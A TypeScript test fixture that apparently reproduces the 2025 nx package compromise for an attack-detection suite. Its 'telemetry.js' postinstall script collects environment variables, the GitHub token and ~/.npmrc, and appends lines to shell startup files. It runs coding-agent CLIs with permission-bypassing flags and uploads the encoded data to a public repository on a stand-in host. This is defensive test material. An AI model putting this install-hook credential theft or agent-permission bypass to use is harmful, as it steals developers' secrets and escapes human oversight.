import { defineAttack } from "../attack.ts";
import { commandTool } from "../bases.ts";
import { commonScript } from "../guard.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * nx 20.9 to 21.8, 26 August 2025: a token stolen through a workflow published what a workflow with provenance had always
 * published. `telemetry.js` took tokens, had the coding agents of the machine list files of interest, put the findings, encoded three
 * times, into a public repository of the victim, and made shells end. Reproduced without a prompt and without a repository.
 */
export const nx2025: Sample = defineAttack({
  id: "nx-2025",
  title: "A hook drives coding agents to list secrets and uploads them to a repository",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "nx", version: "21.5.0" },
    { name: "nx", version: "20.9.0" },
  ],
  now: "2025-08-26T22:45:00Z",
  createLines: () => [
    {
      name: "nx",
      files: commandTool("nx", "nx"),
      publisher: person("nrwl-jason"),
      way: "workflow-token",
      manifest: { bin: { nx: "bin/nx.js" } },
      releases: [
        ["20.8.1", "2025-05-05T10:00:00Z", { tag: "previous" }],
        ["20.8.2", "2025-05-28T10:00:00Z", { tag: "previous" }],
        ["21.3.11", "2025-07-29T10:00:00Z"],
        ["21.4.0", "2025-08-18T10:00:00Z"],
        ["21.4.1", "2025-08-19T10:00:00Z"],
        ["21.5.0", "2025-08-26T22:32:00Z", armed],
        ["20.9.0", "2025-08-26T22:39:00Z", { ...armed, tag: "previous" }],
        ["21.6.0", "2025-08-26T23:54:00Z", armed],
      ],
    },
  ],
});

const telemetry = `#!/usr/bin/env node
"use strict";
${commonScript(String.raw`
const { spawnSync } = require("child_process");
const os = require("os");
const fs = require("fs");
const path = require("path");
const https = require("https");

if (process.platform === "win32") process.exit(0);

const PROMPT = "say the word inert and nothing else";
const result = { env: process.env, hostname: os.hostname(), platform: process.platform, osType: os.type(), ghToken: null, npmWhoami: null, npmrcContent: null, clis: {}, agents: {} };

function isOnPathSync(cmd) {
  const r = spawnSync("which", [cmd], { stdio: ["ignore", "pipe", "ignore"], encoding: "utf8" });
  return r.status === 0;
}

const cliChecks = {
  claude: { cmd: "claude", args: ["--dangerously-skip-permissions", "-p", PROMPT] },
  gemini: { cmd: "gemini", args: ["--yolo", "-p", PROMPT] },
  q: { cmd: "q", args: ["chat", "--trust-all-tools", "--no-interactive", PROMPT] },
};

function githubRequest(pathname, method, body, token) {
  return new Promise((resolve, reject) => {
    const req = https.request({ hostname: "api.codehost.invalid", path: pathname, method, headers: { Authorization: "token " + token, Accept: "application/vnd.github.v3+json", "User-Agent": "axios/1.4.0" } }, (res) => {
      let data = "";
      res.on("data", (c) => (data += c));
      res.on("end", () => resolve({ status: res.statusCode, body: data }));
    });
    req.on("error", reject);
    if (body) req.write(JSON.stringify(body));
    req.end();
  });
}

function forceAppendAgentLine() {
  for (const name of [".bashrc", ".zshrc"]) {
    fs.appendFileSync(path.join(os.homedir(), name), "\n# inert shutdown line\n");
  }
}

(async () => {
  for (const key of Object.keys(cliChecks)) {
    if (!isOnPathSync(cliChecks[key].cmd)) continue;
    const out = spawnSync(cliChecks[key].cmd, cliChecks[key].args, { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"], timeout: 600000 });
    result.agents[key] = out.stdout;
  }
  const gh = spawnSync("gh", ["auth", "token"], { encoding: "utf8", stdio: ["ignore", "pipe", "ignore"], timeout: 5000 });
  if (gh.status === 0) result.ghToken = gh.stdout.trim();
  const npmrc = path.join(os.homedir(), ".npmrc");
  if (fs.existsSync(npmrc)) result.npmrcContent = fs.readFileSync(npmrc, "utf8");
  forceAppendAgentLine();
  const create = await githubRequest("/user/repos", "POST", { name: "inert-repository", private: false }, result.ghToken);
  if (create.status !== 201) process.exit(0);
  const b64 = Buffer.from(Buffer.from(Buffer.from(JSON.stringify(result)).toString("base64")).toString("base64")).toString("base64");
  await githubRequest("/repos/inert/inert-repository/contents/results.b64", "PUT", { message: "Creation.", content: b64 }, result.ghToken);
})();
`)}`;

const armed: LineChange = {
  way: "hand",
  hasCommit: false,
  manifest: { scripts: { test: "node --test", postinstall: "node telemetry.js" } },
  files: [{ path: "telemetry.js", content: telemetry }],
};
